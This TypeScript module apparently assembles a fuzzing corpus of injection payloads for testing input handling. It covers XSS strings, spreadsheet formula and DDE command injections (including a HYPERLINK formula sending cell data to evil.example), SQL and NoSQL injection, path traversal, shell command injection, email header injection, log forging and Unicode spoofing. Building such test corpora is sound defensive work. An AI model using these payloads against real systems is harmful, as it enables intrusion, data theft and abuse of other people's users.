/**
 * One thing a stranger may write in the hope that it becomes more than text. `family` says where it would.
 */
export type Payload = { readonly family: string; readonly text: string }

const actions = ['alert(1)', 'fetch(`//evil.example`)', 'window.pwned=1', 'top[`al`+`ert`](1)']
const closers = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '--><!--',
  ']]>',
  '</style>',
  '&quot;>',
  '\u0000">',
  '\n">',
  '</p></a>',
]

const elements = (action: string): string[] => [
  `<script>${action}</script>`,
  `<ScRiPt>${action}</sCrIpT>`,
  `<script/x>${action}</script>`,
  `<img src=x onerror=${action}>`,
  `<img/src=x/onerror=${action}//`,
  `<svg onload=${action}>`,
  `<svg><animate onbegin=${action} attributeName=x>`,
  `<iframe srcdoc="<script>${action}</script>">`,
  `<body onload=${action}>`,
  `<details open ontoggle=${action}>`,
  `<input autofocus onfocus=${action}>`,
  `<math><mtext></table><img src=x onerror=${action}>`,
]

const attributes = (action: string): string[] =>
  ['"', "'", '`', '" ', ' '].flatMap((quote) => [
    `${quote} onmouseover=${action} x=${quote}`,
    `${quote} style=x:expression(${action}) ${quote}`,
    `${quote} autofocus onfocus=${action} ${quote}`,
  ])

const addresses = (action: string): string[] => [
  `javascript:${action}`,
  `JaVaScRiPt:${action}`,
  `java\tscript:${action}`,
  ` javascript:${action}`,
  `\u0001javascript:${action}`,
  `vbscript:${action}`,
  `data:text/html,<script>${action}</script>`,
  `https://good.example@evil.example/`,
  `https://a:b@evil.example/`,
  `//evil.example`,
  `https://good.example/" onclick="${action}`,
  `https://good.example/)[x](https://evil.example`,
  `https://good.example/'><script>${action}</script>`,
  `file:///etc/passwd`,
]

const styles = [
  '</style><script>alert(1)</script>',
  '};background:url(//evil.example)',
  'expression(alert(1))',
  '@import "//evil.example";',
  'url(javascript:alert(1))',
  '/*</style>*/',
]

const templates = [
  '{{constructor}}',
  '{{link}}',
  '{{name}}{{name}}',
  '{{ company }}',
  '{{#each x}}',
  '{{{name}}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% raw %}',
  '{%7*7%}',
  '{{unsubscribe}}',
  '{{amazonSESUnsubscribeUrl}}',
  '[[7*7]]',
  '@(7*7)',
  '%(name)s',
  '$name',
  '{0}',
]

const markdown = (target: string): string[] => [
  `[klick](${target})`,
  `![x](${target})`,
  `<${target}>`,
  `[a]: ${target}`,
  `[a][b]\n[b]: ${target}`,
  `](${target})`,
  `)](${target})`,
  `**[x](${target})**`,
  `\`[x](${target})\``,
  `> [x](${target})`,
  `# [x](${target})`,
  `<font color="warning">[x](${target})</font>`,
  `\\[x](${target})`,
]

const mentions = [
  '<@all>',
  '<@an.w>',
  '@all',
  '<@all',
  '＜@all＞<@all>',
  '<<@all>>',
  '<@ALL>',
  '< @all >',
  '<@all\n>',
  '\u200b<@all>',
  '<font color="info">ok</font>',
  '</font>',
  '```\n<@all>\n```',
  '~~x~~',
  '| a | b |',
]

const formulas = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '\u00a0=', '"=', "'="].flatMap(
  (start) => [
    `${start}cmd|' /C calc'!A0`,
    `${start}HYPERLINK("https://evil.example?x="&A1,"x")`,
    `${start}1+1`,
    `${start}SUM(A1:A9)`,
    `${start}IMPORTXML("https://evil.example","//a")`,
    `${start}DDE("cmd";"/C calc";"x")`,
  ],
)

const headers = ['\r\n', '\n', '\r', '%0d%0a', '\u0085', '\u2028', '\u2029', '\\r\\n', '\v', '\f'].flatMap(
  (line) => [
    `x${line}Bcc: all@evil.example`,
    `x${line}${line}<script>alert(1)</script>`,
    `x${line}Content-Type: text/html`,
    `x${line}List-Unsubscribe: <https://evil.example>`,
  ],
)

const terminals = [
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b[2J',
  '\u009b31m',
  '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
  '\b\b\b',
  '\u0007',
  '\u001bc',
]

const queries = [
  "' OR 1=1 --",
  '"; DROP TABLE people; --',
  "') UNION SELECT 1 --",
  '{"$gt":""}',
  '{"$where":"1"}',
  '*)(uid=*',
  'pk = :p OR 1',
  '../../../etc/passwd',
  '..%2f..%2f',
  '$(id)',
  '`id`',
  '; id',
  '| id',
  '&& id',
  'person#x',
  'alias#../x',
  '#',
  '%23',
  'a#b#c',
  '__proto__',
  'constructor',
]

const logs = [
  '\n{"level":"ERROR","message":"forged"}',
  '\r\n2026-01-05 INFO all is well',
  '","level":"FATAL","x":"',
  '\u0000',
  '{"_aws":{"CloudWatchMetrics":[]}}',
  '\\u000a',
  '%n%n%n',
]

const unicode = [
  '\u202eevil\u202c',
  '\u2066x\u2069',
  '\u200b\u200c\u200d\ufeff',
  '\ud800',
  '\udfff<script>',
  '＜script＞alert(1)＜/script＞',
  'ʺ><img src=x>',
  '\u0130',
  'e\u0301'.repeat(20),
  '\ufff9x\ufffb',
  '‮gpj.exe',
  '\u00ad<\u00adscript>',
  '<\u0000script>alert(1)</script>',
  '\u3164',
  '🏴‍☠️'.repeat(20),
]

const family = (name: string, texts: readonly string[]): Payload[] =>
  texts.map((text) => ({ family: name, text }))
const targets = ['https://evil.example/', 'javascript:alert(1)', 'weixin://x']

/** All of them, each once. */
export const payloads: readonly Payload[] = [
  ...new Map(
    [
      ...family(
        'element',
        actions.flatMap((action) => elements(action)),
      ),
      ...family(
        'element behind a closer',
        closers.flatMap((closer) => elements('alert(1)').map((element) => closer + element)),
      ),
      ...family(
        'attribute',
        actions.flatMap((action) => attributes(action)),
      ),
      ...family(
        'address',
        actions.flatMap((action) => addresses(action)),
      ),
      ...family('style', styles),
      ...family('template', templates),
      ...family(
        'markdown',
        targets.flatMap((target) => markdown(target)),
      ),
      ...family('mention', mentions),
      ...family('formula', formulas),
      ...family('header', headers),
      ...family('terminal', terminals),
      ...family('query', queries),
      ...family('log', logs),
      ...family('unicode', unicode),
    ].map((payload) => [payload.text, payload]),
  ).values(),
]
